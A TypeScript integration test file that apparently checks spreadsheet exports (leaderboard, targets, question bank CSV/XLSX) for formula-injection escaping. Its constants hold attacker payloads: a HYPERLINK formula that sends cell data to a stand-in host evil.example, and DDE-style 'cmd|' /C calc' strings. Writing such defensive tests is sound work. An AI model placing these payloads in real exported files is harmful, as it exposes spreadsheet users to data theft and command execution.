import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { queryRows, sql } from '@thidua/db';
import { insertUnit } from '@thidua/api/src/modules/units/units.queries';
import { dataOf, startTestApp, type GqlClient, type TestApp } from '../support/harness';
import { newUser } from '../support/factories';

// what an attacker names things, hoping an export is opened in a spreadsheet program
const LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")';
const TARGET = '+cmd|\' /C calc\'!A0';
const QUESTION = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const OPTION = '-2+3';

let t: TestApp;
let admin: GqlClient;
let movementId: string;
let orgId: number;

/** Every cell of the first sheet: its type and value, as a spreadsheet program would read them. */
async function xlsxCells(response: Response): Promise<{ type: number; value: unknown; formula?: string }[]> {
  expect(response.status).toBe(200);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load((await response.arrayBuffer()) as ArrayBuffer);
  const cells: { type: number; value: unknown; formula?: string }[] = [];
  book.worksheets[0].eachRow((row) => row.eachCell((cell) => cells.push({ type: cell.type, value: cell.value, formula: cell.formula })));
  return cells;
}

/** RFC 4180 fields of every line (quoted fields, doubled quotes), after the BOM. */
function csvFields(text: string): string[] {
  const fields: string[] = [];
  let field = '';
  let quoted = false;
  const s = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',' || c === '\n') fields.push(field), (field = '');
    else if (c !== '\r') field += c;
  }
  return fields;
}

const formulaLike = (v: unknown) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v);

beforeAll(async () => {
  t = await startTestApp();
  const [haLong] = await queryRows<{ id: number }>(t.db, sql`select id from units where code = '06688'`);
  const [quangNinh] = await queryRows<{ id: number }>(t.db, sql`select id from units where code = '22'`);
  orgId = (await insertUnit(t.db, { parentId: haLong.id, kind: 'ORGANIZATION', name: LINK, subtype: 'chi đoàn' })).id;
  const a = await newUser(t.db, { role: 'ADMIN' });
  const o = await newUser(t.db, { role: 'OFFICER', unitId: orgId });
  const l = await newUser(t.db, { role: 'LEADER', unitId: quangNinh.id });
  admin = await t.as(a.username, a.password);
  const officer = await t.as(o.username, o.password);
  const leader = await t.as(l.username, l.password);
  movementId = dataOf(
    await admin.gql(`mutation($input: CreateMovementInput!) { createMovement(input: $input) { id } }`, {
      input: {
        title: `Xuất bảng tính ${randomUUID().slice(0, 8)}`,
        organizerUnitId: '1',
        scopeUnitId: '1',
        competingKinds: ['COMMUNE', 'ORGANIZATION'],
        startsOn: '2026-09-01',
        endsOn: '2026-12-31',
        targets: [{ title: TARGET, measure: 'CLASSES_HELD', level: 10 }],
      },
    }),
  ).createMovement.id;
  dataOf(await admin.gql(`mutation($id: ID!) { openMovement(id: $id) { status } }`, { id: movementId }));
  const id = randomUUID();
  dataOf(
    await officer.gql(`mutation($input: RecordClassInput!) { recordClass(input: $input) { id } }`, {
      input: { id, movementId, unitId: String(orgId), heldOn: '2026-10-05', attendeeCount: 25, topics: ['VNEID'] },
    }),
  );
  expect(dataOf(await leader.gql(`mutation($id: ID!) { reviewActivity(id: $id, approve: true) { status } }`, { id })).reviewActivity.status).toBe('APPROVED');
});

afterAll(() => t?.close());

describe('exports are safe from formula injection', () => {
  it('writes a unit named "=HYPERLINK(…)" as text in the leaderboard XLSX, and no cell is a formula', async () => {
    const cells = await xlsxCells(await fetch(`${t.url}/api/export/leaderboard.xlsx?movementId=${movementId}&scope=UNIT`));
    expect(cells.map((c) => c.value)).toContain(`'${LINK}`);
    expect(cells.filter((c) => c.formula !== undefined || c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(cells.map((c) => c.value).filter(formulaLike)).toEqual([]);
  });

  it('writes the same unit as a quoted text field in the leaderboard CSV', async () => {
    const response = await fetch(`${t.url}/api/export/leaderboard.csv?movementId=${movementId}&scope=UNIT`);
    const text = await response.text();
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"`);
    const fields = csvFields(text);
    expect(fields).toContain(`'${LINK}`);
    expect(fields.filter(formulaLike)).toEqual([]);
  });

  it('escapes a target titled "+cmd|…" in the targets XLSX and CSV', async () => {
    const query = `movementId=${movementId}&unitId=${orgId}`;
    const cells = await xlsxCells(await fetch(`${t.url}/api/export/targets.xlsx?${query}`));
    expect(cells.map((c) => c.value)).toContain(`'${TARGET}`);
    expect(cells.map((c) => c.value).filter(formulaLike)).toEqual([]);
    const fields = csvFields(await (await fetch(`${t.url}/api/export/targets.csv?${query}`)).text());
    expect(fields).toContain(`'${TARGET}`);
    expect(fields.filter(formulaLike)).toEqual([]);
  });

  it('escapes question and option text in the question bank CSV, and reads its own export back unchanged', async () => {
    const IMPORT = `mutation($csv: String!, $dryRun: Boolean) { importQuestions(csv: $csv, dryRun: $dryRun) { written created unchanged rows problems { line message } } }`;
    const code = `INJ-${randomUUID().slice(0, 6).toUpperCase()}`;
    const header = 'code,topic,multiple_choice,question,option_1,option_2,option_3,option_4,option_5,option_6,correct,explanation';
    const csv = `${header}\n${code},VNEID,0,"${QUESTION}",${OPTION},Năm,,,,,2,"=1+1 không phải là lời giải thích"\n`;
    expect(dataOf(await admin.gql(IMPORT, { csv, dryRun: false })).importQuestions).toMatchObject({ written: true, created: 1, problems: [] });
    const exported = await (await fetch(`${t.url}/api/quizzes/questions.csv`, { headers: { cookie: admin.cookie! } })).text();
    const fields = csvFields(exported);
    expect(fields).toEqual(expect.arrayContaining([`'${QUESTION}`, `'${OPTION}`, "'=1+1 không phải là lời giải thích"]));
    expect(fields.filter(formulaLike)).toEqual([]);
    // the quote is only for the spreadsheet: the bank read back is the same bank
    const again = dataOf(await admin.gql(IMPORT, { csv: exported })).importQuestions;
    expect(again.problems).toEqual([]);
    expect(again.unchanged).toBe(again.rows);
    const [stored] = await queryRows<{ text: string }>(t.db, sql`select text from quiz_questions where code = ${code}`);
    expect(stored.text).toBe(QUESTION);
  });
});
